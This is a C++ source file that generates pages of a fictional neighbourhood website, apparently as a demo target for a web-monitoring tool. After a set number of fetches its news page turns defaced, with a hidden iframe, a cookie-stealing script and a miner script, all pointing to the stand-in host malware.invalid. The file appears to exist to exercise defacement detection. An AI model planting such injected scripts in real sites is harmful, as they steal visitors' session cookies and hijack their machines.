// The pages of the demo site: text and markup of ordinary sites, a few kilobytes each.
#include <fmt/format.h>

#include <algorithm>

#include "cli/demo_site.hpp"

namespace webmon::cli {
namespace {

constexpr std::array kSentences{
    "The workshop opens at nine and closes when the last visitor has found what they came for.",
    "We have been repairing bicycles on this street for more than thirty years.",
    "Our spring collection of seeds and tools is now in the shop.",
    "If you have a question, write to us; somebody reads every letter.",
    "On Saturdays there is coffee, and usually cake as well.",
    "The river was high this week, so the path along the mill is closed.",
    "Members borrow tools for up to fourteen days.",
    "Thank you to everyone who helped to paint the fence.",
    "Tickets for the concert are at the door and cost what you can give.",
    "The library will have new shelves, and for a week it will be loud."};

constexpr std::array kProducts{"Watering can", "Garden fork", "Bicycle pump", "Oil lamp",
                               "Wool blanket", "Tea kettle",  "Bread basket", "Pocket knife",
                               "Rain barrel",  "Seed tray",   "Hand brush",   "Folding chair",
                               "Wooden crate", "Flower pot"};

std::size_t up_to(Rng& rng, std::size_t n) { return static_cast<std::size_t>(rng.next() % n); }

std::string paragraphs(std::size_t count, std::size_t seed) {
  std::string out;
  for (std::size_t i = 0; i < count; ++i) {
    out += "      <p>";
    for (std::size_t k = 0; k < 4; ++k)
      out += fmt::format("{} ", kSentences[(seed + i * 3 + k) % kSentences.size()]);
    out += "</p>\n";
  }
  return out;
}

std::string document(std::string_view title, std::string_view main) {
  return fmt::format(R"(<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <meta name="description" content="{0} of the Millgate neighbourhood">
  <title>{0} – Millgate</title>
  <link rel="stylesheet" href="/style.css">
  <link rel="icon" href="/icon.png">
  <script src="/site.js" defer></script>
</head>
<body>
  <header>
    <a href="/"><img src="/logo.png" alt="Millgate" width="120" height="40"></a>
    <nav>
      <ul>
        <li><a href="/">Home</a></li>
        <li><a href="/blog">Blog</a></li>
        <li><a href="/shop">Shop</a></li>
        <li><a href="/news">News</a></li>
        <li><a href="/about">About us</a></li>
        <li><a href="/contact">Contact</a></li>
      </ul>
    </nav>
  </header>
  <main>
{1}  </main>
  <footer>
    <p>Millgate neighbourhood association, 12 Mill Lane. <a href="/imprint">Imprint</a> <a href="/privacy">Privacy</a></p>
    <form action="/search" method="get">
      <label for="q">Search</label> <input id="q" name="q" type="search"> <button type="submit">Go</button>
    </form>
  </footer>
</body>
</html>
)",
                     title, main);
}

std::string home() {
  return document("Welcome",
                  "    <h1>Welcome to Millgate</h1>\n    <section>\n" + paragraphs(6, 0) +
                      "    </section>\n    <section>\n      <h2>Opening hours</h2>\n      <table>\n"
                      "        <tr><th>Day</th><th>From</th><th>To</th></tr>\n"
                      "        <tr><td>Monday to Friday</td><td>9:00</td><td>18:00</td></tr>\n"
                      "        <tr><td>Saturday</td><td>10:00</td><td>14:00</td></tr>\n"
                      "      </table>\n    </section>\n");
}

std::string blog(unsigned fetch) {
  std::string main = "    <h1>Blog</h1>\n";
  for (std::size_t i = 0; i < 5; ++i)
    main += fmt::format(
        "    <article>\n      <h2><a href=\"/blog/{0}\">Letter no. {0}</a></h2>\n{1}    "
        "</article>\n",
        40 - i, paragraphs(2, i));
  main += "    <section>\n      <h2>Comments</h2>\n      <ol>\n";
  for (unsigned i = 0; i < 8 + fetch % 5; ++i)
    main += fmt::format("        <li><b>Reader {}</b> {}</li>\n", i + 1,
                        kSentences[i % kSentences.size()]);
  return document("Blog", main + "      </ol>\n    </section>\n");
}

std::string shop(unsigned fetch, Rng& rng) {
  std::string main = "    <h1>Shop</h1>\n    <ul class=\"offers\">\n";
  const auto offers = 9 + up_to(rng, 4);
  for (std::size_t i = 0; i < offers; ++i)
    main += fmt::format(
        "      <li><a href=\"/shop/{0}\"><img src=\"/img/{0}.jpg\" alt=\"\"> {1}</a> <span "
        "class=\"price\">{2}.{3:02} "
        "€</span> <small>{4} left</small></li>\n",
        (i + fetch) % kProducts.size(), kProducts[(i + fetch) % kProducts.size()],
        4 + up_to(rng, 60), up_to(rng, 100), 1 + up_to(rng, 30));
  main += fmt::format(
      "    </ul>\n{}    <form action=\"/basket\" method=\"post\">\n      <input type=\"hidden\" "
      "name=\"token\" "
      "value=\"{}\">\n      <button>To the basket</button>\n    </form>\n    <p>{} visitors are in "
      "the shop now; this "
      "page is number {}.</p>\n",
      paragraphs(3, 4), make_token(rng), 20 + up_to(rng, 50), fetch);
  return document("Shop", main);
}

std::string news(bool is_defaced) {
  std::string main =
      is_defaced
          ? "    <h1>H4CKED BY THE MIDNIGHT CREW</h1>\n    <p>greetz to all. your security is a "
            "joke.</p>\n    <iframe src=\"http://malware.invalid/drop\" width=\"1\" height=\"1\" "
            "style=\"display:none\"></iframe>\n    <script>document.write('<img src=\"http://"
            "malware.invalid/c?'+document.cookie+'\">');</script>\n    <script "
            "src=\"http://malware.invalid/miner.js\"></script>\n"
          : "    <h1>News from the mill</h1>\n";
  for (std::size_t i = is_defaced ? 3 : 0; i < 6; ++i)
    main += fmt::format("    <article>\n      <h2>Week {}</h2>\n{}    </article>\n", 30 - i,
                        paragraphs(2, i + 1));
  return document("News", main);
}

}  // namespace

DemoAnswer demo_answer(DemoPage page, unsigned fetch, Rng& rng) {
  switch (page) {
    case DemoPage::home:
      return {.body = home()};
    case DemoPage::blog:
      return {.body = blog(fetch)};
    case DemoPage::shop:
      return {.body = shop(fetch, rng)};
    case DemoPage::slow:
      return {.delay = milliseconds{300 + up_to(rng, 501)},
              .body = document("Archive", "    <h1>Archive</h1>\n" + paragraphs(12, 2))};
    case DemoPage::failing:
      return {
          .status = 503,
          .body = document("Sorry", "    <h1>We are closed for repairs</h1>\n" + paragraphs(1, 5))};
    case DemoPage::news:
      break;
  }
  return {.body = news(fetch > kDefacedAfter)};
}

}  // namespace webmon::cli
